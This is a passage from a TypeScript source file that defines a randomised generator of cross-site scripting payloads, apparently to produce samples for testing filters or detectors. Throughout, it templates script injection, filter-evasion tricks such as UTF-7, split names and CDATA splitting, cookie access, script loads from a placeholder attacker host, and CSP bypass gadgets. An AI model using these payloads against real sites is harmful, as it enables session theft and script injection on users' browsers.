  utf7: text`${maybe(lowerWord)}${oneOf('', '">', '+ACI-+AD4-')}+ADw-${oneOf('script', 'SCRIPT', 'img src=x onerror')}${oneOf('+AD4-', '+AD0-')}${dialogue}(${oneOf(integer(1, 99), '+ACI-xss+ACI-', '+ACc-xss+ACc-', 'document.cookie')})+ADw-/script+AD4-${maybe('-')}`,
  'vml-htc': anywhere(
    oneOf(
      text`<v:${words('rect oval line')} xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#vml)" ${handled}/>`,
      text`<xss style="behavior:url(${lowerWord}.htc);">`,
      text`<!--[if gte IE ${integer(4, 9)}]><script>${script}</script><![endif]-->`,
      text`<t:animate attributename="innerHTML" values="<img src=x onerror=${script}>"/>`
    )
  ),
  locator: text`${letters('\'";!-&=(){}[]<>/`', 3, 9)}<${oneOf('xss', 'x', lowerWord)}${maybe('>')}${letters('\'";!-&=(){}[]<>/`', 1, 6)}`,
  'unknown-handler': anywhere(
    text`<${oneOf('x', '%78', 'xss', lowerWord)}${oneOf(' ', '%20', '/', '\n', '%0a', '\t', " 1='1'", ' 1=">"', ' a="b"')}${maybe(' ')}on${oneOf('xxx', lowerWord, 'x')}${equals}${oneOf('1', script, '""')}${ending}`
  ),
  'split-names': oneOf(
    altered(text`${dialogue} ${words('alt lang title id name')} ${words('class rel rev type dir')}`, (drawn, rng) => {
      const [call, first, second] = drawn.split(' ') as [string, string, string];
      const at = rng.int(1, call.length - 1);
      const property = second === 'class' ? 'className' : second;
      return `<${rng.pick(['img src=1', 'svg', 'input autofocus', 'body'])} ${first}=${call.slice(0, at)} ${second}=${call.slice(at)} ${rng.pick(['onerror', 'onload', 'onfocus'])}=top[${first}+${property}](${rng.int(0, 9)})>`;
    }),
    altered(words('eval alert confirm setTimeout location'), (call, rng) => {
      const at = rng.int(1, call.length - 1);
      const [a, b] = rng.shuffle(Array.from(LOWER));
      return rng.pick([
        `var ${a}='${call.slice(0, at)}';var ${b}='${call.slice(at)}';window[${a}+${b}](1)`,
        `${a}='${call.slice(0, at)}'+'${call.slice(at)}',${b}=location.hash;this[${a}](${b}.slice(1))`,
        `${a}=/${call.slice(0, at)}/.source;${a}+=/${call.slice(at)}/.source;self[${a}](name)`
      ]);
    })
  ),
  binding: anywhere(
    text`<${oneOf('div', 'xss', tag)} style=${quoted(text`${words('behavior behaviour binding -moz-binding')}:${maybe(' ')}url(${oneOf(text`${attackerUrl}#xss`, text`${lowerWord}.htc`)})${maybe(';')}`)}>`
  ),
  'data-binding': anywhere(
    oneOf(
      text`<span datasrc=${quoted(text`#${lowerWord}`)} datafld=${quoted(letters(LOWER))} dataformatas=${quoted('html')}></span>`,
      text`<?import namespace="${lowerWord}" implementation="${oneOf('#default#time2', attackerUrl, text`http://${attackerHost}/${lowerWord}.htc`)}">`,
      same(
        lowerWord,
        (name) =>
          text`<html xmlns:${name}><?import namespace="${name}" implementation="http://${attackerHost}/${lowerWord}.htc"><${name}:${name}>`
      ),
      altered(
        text`<xml id=${letters(LOWER)}><x><c><![CDATA[<img src="javascript:${script}">]]></c></x></xml><span datasrc=#x datafld=c>`,
        (markup, rng) => {
          const at = markup.indexOf('javascript') + rng.int(1, 9);
          return `${markup.slice(0, at)}]]><![CDATA[${markup.slice(at)}`;
        }
      ),
      text`<?xml:namespace prefix="${letters(LOWER)}" ns="urn:${lowerWord}-${lowerWord}:time">`
    )
  ),
  'telling-link': anywhere(
    text`<a href=${quoted(text`http://${oneOf(attackerHost, integer(100_000_000, 3_999_999_999), text`0x${letters('0123456789abcdef', 8)}`, 'www.google.com./')}/`)}>${oneOf('xss', 'XSS', 'click me', 'hacked')}</a>`
  ),
  'remote-layer': anywhere(
    text`<${words('layer ilayer bgsound embed frame applet link')} ${words('src href code')}=${quoted(text`http://${attackerHost}/${oneOf('xss', 'script', lowerWord)}.${words('js html css htc swf')}`)}${ending}`
  ),
  'attribute-hiding-end': anywhere(
    text`<script ${letters(LOWER)}=${oneOf('">"', "'>'", '`>`', '">\'>"')} ${maybe("'' ")}src=${quoted(text`http://${attackerHost}/${lowerWord}.js`)}></script>`
  ),
  'markup-injection': text`${oneOf('">', "'>", '</title>', '</textarea>', '">\n')}${oneOf(text`<h1>${lowerWord}</h1>`, text`<${words('b i u br marquee s plaintext')}>${oneOf('x', lowerWord)}</${words('b i u marquee s')}>`, text`<marquee>${lowerWord} ${lowerWord}</marquee>`, text`<br><br><b><u>${lowerWord}</u></b>`, text`<img src="${lowerWord}.png" alt="${lowerWord}">`, text`<iframe src="http://${attackerHost}/"></iframe>`)}`,
  'stripped-brackets': text`${maybe(lowerWord)}${oneOf('script', 'ſcript', '¼script¾', ' script ')}${script}${oneOf('/script', '¼/script¾', ' /script')}`,
  'half-script': anywhere(
    oneOf(
      text`<script>${letters(LOWER)}=/${lowerWord}/${maybe(';')}`,
      text`<script>${letters(LOWER)}=eval;${letters(LOWER)}=alert;`,
      altered(text`<script>${script}</script>`, (markup, rng) => {
        const at = rng.int(3, 7);
        return `<? echo('${markup.slice(0, at)}'); echo('${markup.slice(at)}'); ?>`;
      }),
      text`<% ${script} %>`,
      text`mhtml:http://${attackerHost}/${lowerWord}.html!${lowerWord}.html`,
      text`<iframe src=mhtml:http://${attackerHost}/${lowerWord}.html!${lowerWord}></iframe>`
    )
  ),
  'csp-gadget': anywhere(
    oneOf(
      text`<script src="https://${words('accounts.google.com www.google.com cdnjs.cloudflare.com ajax.googleapis.com')}/${lowerWord}/jsonp?callback=${dialogue}"></script>`,
      text`<div data-${words('bind role toggle')}="${words('value html')}: ${script}">`,
      text`<script src=//cdnjs.cloudflare.com/ajax/libs/angular.js/1.${integer(0, 8)}.${integer(0, 9)}/angular.min.js></script><div ng-app ng-csp>{{${script}}}`
    )
  )
});
